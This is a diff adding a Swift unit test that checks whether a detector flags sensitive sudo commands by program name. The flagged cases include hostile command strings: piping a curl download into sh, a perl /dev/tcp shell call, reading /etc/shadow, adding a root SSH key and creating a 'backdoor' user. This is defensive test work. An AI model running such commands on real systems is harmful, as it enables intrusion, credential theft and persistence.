@@ -34,3 +34,18 @@ import Testing
         #expect(DetectorTests.detect(usual, model: m).isEmpty)
     }
 }
+
+/// Which sudo commands count as sensitive: programs by name, never as text inside other words.
+@Suite struct SensitiveCommandTests {
+    @Test func programsByNameNotBySubstring() {
+        for c in ["/bin/bash", "-i", "/usr/bin/passwd alice", "sh -c 'curl http://203.0.113.5/x | sh'", "/usr/bin/vim /etc/sudoers",
+                  "/bin/chmod u+s /tmp/x", "/usr/bin/tee -a /root/.ssh/authorized_keys", "/bin/cat /etc/shadow", "/usr/bin/perl -e x /dev/tcp/192.0.2.9/4444",
+                  "/usr/sbin/useradd -m backdoor"] {
+            #expect(Detector.isSensitive(c), "\(c)")
+        }
+        for c in ["/usr/bin/rsync -a /srv/app/ /srv/app.bak/", "/usr/bin/systemctl restart nginx", "/usr/bin/apt-get install ncdu",
+                  "/usr/bin/journalctl -u sshd", "/usr/bin/docker ps", "/usr/bin/find /var/log -name *.gz"] {
+            #expect(!Detector.isSensitive(c), "\(c)")
+        }
+    }
+}
